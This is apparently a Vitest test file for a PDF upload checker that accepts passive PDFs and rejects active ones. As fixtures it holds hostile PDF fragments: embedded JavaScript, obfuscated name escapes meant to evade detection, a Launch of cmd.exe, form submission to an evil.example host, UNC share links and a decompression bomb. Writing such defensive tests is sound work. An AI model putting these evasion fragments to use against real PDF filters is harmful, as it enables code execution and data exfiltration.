import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { type Packing, packedPdf, pdf, stream } from '../../../test/support/pdfs.js';
import type { ErrorCode } from '../../shared/errors.js';
import { checkFile } from './file-check.js';

const check = (sent: Buffer) => checkFile(sent, 'CERTIFICATE');
const refused = (code: ErrorCode) => expect.objectContaining({ message: code });

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const packed = (text: string) => stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(text));
const fixture = (name: string) => readFileSync(new URL(`../../demo/fixtures/${name}`, import.meta.url));

describe('R-PER-3: accepting complete, passive PDFs', () => {
  const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (https://www.twport.com.tw/) >> >>';
  const field = '<< /FT /Tx /T (name) /Subtype /Widget /Rect [0 0 1 1] /AP << /N 4 0 R >> >>';
  it.each([
    ['a plain one', pdf()],
    ['a scan', fixture('passport.pdf')],
    [
      'one whose page content happens to hold such words',
      pdf('', stream('/Filter /FlateDecode', deflateSync('(/JavaScript /Launch) Tj'))),
    ],
    ['one with a similar word in its title', pdf('/Title (Livestream)')],
    ['one with packed objects', pdf('', packed('5 0 << /Type /Font >>'))],
    ['one whose structure is packed', packedPdf('', [])],
    ['one whose names only begin alike', pdf('/JSX 1 /Launchpad 2')],
    ['one that opens at a page', pdf('/OpenAction [3 0 R /FitH null]')],
    ['one that opens at a page by an action', packedPdf('/OpenAction 5 0 R', ['<< /S /GoTo /D [3 0 R /Fit] >>'])],
    ['one with a link to a web page', packedPdf('', [link])],
    [
      'one whose fonts, beads and parts have such keys',
      pdf('/F 3 0 R /Resources << /Font << /F 3 0 R >> >> /A << /O /Layout /S 5 >>'),
    ],
    ['one with a form without script', packedPdf('/AcroForm << /Fields [5 0 R] >>', [field])],
    [
      'one with an outline before a picture',
      pdf('', `6 0 obj << /First 7 0 R /Last 7 0 R >> endobj 7 0 obj << /N 3 >> endobj ${picture()}`),
    ],
  ])('accepts %s unchanged', async (_what, sent) => {
    expect(await check(sent)).toEqual({ bytes: sent, mediaType: 'application/pdf' });
  });

  function picture(): string {
    const lines = deflateSync(Buffer.alloc(40));
    return stream('/Subtype /Image /Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 9 >>', lines);
  }
});

describe('R-PER-3: refusing a PDF by the reason', () => {
  it.each<[string, Buffer, ErrorCode]>([
    ['without its end', pdf().subarray(0, 60), 'FILE_NOT_READABLE'],
    ['with an endless stream', pdf('', '4 0 obj << /Length 9 >>\nstream\n'), 'FILE_NOT_READABLE'],
    [
      'with packed objects that cannot be unpacked',
      pdf('', stream('/Type /ObjStm /Filter /LZWDecode', Buffer.from('??'))),
      'FILE_NOT_READABLE',
    ],
    ['with a script', pdf(`/OpenAction ${script}`), 'FILE_HAS_SCRIPT'],
    ['with a disguised script', pdf('/OpenAction << /S /J#61vaScript /J#53 (x) >>'), 'FILE_HAS_SCRIPT'],
    ['with a packed script', pdf('', packed(`5 0 ${script}`)), 'FILE_HAS_SCRIPT'],
    [
      'with a script in what looks like a stream',
      pdf('', `%<< >> stream\n5 0 obj ${script} endobj\n%endstream`),
      'FILE_HAS_SCRIPT',
    ],
    ['with a script inside a stream', pdf('', stream('', Buffer.from(`5 0 obj ${script} endobj`))), 'FILE_HAS_SCRIPT'],
    ['with packed objects inside a stream', pdf('', `% >> stream\n${packed(`5 0 ${script}`)}`), 'FILE_HAS_SCRIPT'],
    [
      'with packed objects after an odd line end',
      pdf('', packed(`5 0 ${script}`).replace('stream\n', 'stream\r')),
      'FILE_HAS_SCRIPT',
    ],
    ['with a form made of scripts', pdf('/AcroForm << /XFA (<xdp/>) >>'), 'FILE_HAS_SCRIPT'],
    ['that starts a program', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'FILE_HAS_ACTION'],
    ['that sends its fields', pdf('/A << /S /SubmitForm /F (https://evil.example/) >>'), 'FILE_HAS_ACTION'],
    [
      'that opens a document elsewhere',
      pdf('/A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) >>'),
      'FILE_HAS_ACTION',
    ],
    ['that opens a document within', pdf('/A << /S /GoToE /F (https://evil.example/a.pdf) >>'), 'FILE_HAS_ACTION'],
    ['that opens an address', pdf('/OpenAction << /S /URI /URI (https://evil.example/) >>'), 'FILE_HAS_ACTION'],
    [
      'that opens an address after a page',
      packedPdf('/OpenAction 5 0 R', [
        '<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>',
        '<< /S /URI /URI (https://x.example) >>',
      ]),
      'FILE_HAS_ACTION',
    ],
    [
      'that names two things to do when opened',
      pdf('/OpenAction [3 0 R /Fit] /OpenAction << /S /URI /URI (https://evil.example/) >>'),
      'FILE_HAS_ACTION',
    ],
    ['with a link to a file', pdf('/A << /S /URI /URI (file:///c:/windows/) >>'), 'FILE_HAS_ACTION'],
    ['with a link to a share', packedPdf('', ['<< /S /URI /URI <5c5c6576696c5c73> >>']), 'FILE_HAS_ACTION'],
    [
      'that acts when a page is shown',
      packedPdf('', ['<< /AA << /O << /S /Named /N /Print >> >> >>']),
      'FILE_HAS_ACTION',
    ],
    ['with links beside a share', pdf('/URI << /Base (file://evil.example/) >>'), 'FILE_HAS_ACTION'],
    ['with data elsewhere', pdf('', stream('/F (\\\\\\\\evil\\\\share\\\\x)', Buffer.alloc(0))), 'FILE_HAS_ACTION'],
    [
      'with a picture elsewhere',
      pdf('', '6 0 obj << /Ref << /F << /UF 7 0 R >> >> >> endobj 7 0 obj (//evil/t.pdf) endobj'),
      'FILE_HAS_ACTION',
    ],
    [
      'with a thread elsewhere',
      pdf('/A << /S /Thread /F 6 0 R >>', '6 0 obj << /F (x.pdf) >> endobj'),
      'FILE_HAS_ACTION',
    ],
    ['with a sound', pdf('/PA << /S /Sound /Sound 9 0 R >>'), 'FILE_HAS_ACTION'],
    ['that says something of a file', pdf('/AF [<< /EF << /F 9 0 R >> >>]'), 'FILE_HAS_FILES'],
    ['that carries a file', pdf('/Names << /EmbeddedFiles 9 0 R >>'), 'FILE_HAS_FILES'],
    ['that is encrypted', pdf('/Encrypt 9 0 R'), 'FILE_ENCRYPTED'],
  ])('refuses one %s', async (_what, sent, code) => {
    await expect(check(sent)).rejects.toEqual(refused(code));
  });

  // Readers find packed objects by the table: they do not ask for a type, and undo the differences.
  it.each<[string, Packing]>([
    ['as they should be', {}],
    ['without a type', { type: '' }],
    ['under another type', { type: '/Type /XObject' }],
    ['as differences', { predicted: true }],
    ['as differences without a type', { type: '', predicted: true }],
  ])('refuses a script, a form and a sending of fields in objects packed %s', async (_how, packing) => {
    for (const hidden of [script, '<< /XFA 5 0 R >>', '<< /S /SubmitForm /F (https://evil.example/) >>']) {
      const sent = packedPdf('/OpenAction 5 0 R', [hidden], packing);
      await expect(check(sent)).rejects.toThrow(/FILE_HAS_|FILE_NOT_READABLE/);
    }
  });

  it('refuses packed objects that expand without end', async () => {
    const bomb = pdf('', Array.from({ length: 5 }, () => packed(`5 0 ${' '.repeat(4_000_000)}`)).join('\n'));
    await expect(check(bomb)).rejects.toEqual(refused('FILE_NOT_READABLE'));
  });

  it.each([
    ['objects', '1 0 obj 1 endobj '],
    ['objects within objects', '1 0 obj << /A '],
    ['objects within texts', '1 0 obj ('],
    ['streams without an end', '1 0 obj << >> stream '],
  ])('refuses absurdly many %s', async (_what, part) => {
    await expect(check(pdf('', part.repeat(150_000)))).rejects.toEqual(refused('FILE_NOT_READABLE'));
  });

  it('is not led astray by the bytes of a picture', async () => {
    for (let time = 0; time < 20; time += 1) {
      const noise = Buffer.from(randomBytes(200_000).toString('latin1').replaceAll('endstream', ''), 'latin1');
      await check(pdf('', stream('/Subtype /Image /Filter /DCTDecode', noise)));
    }
  });
});
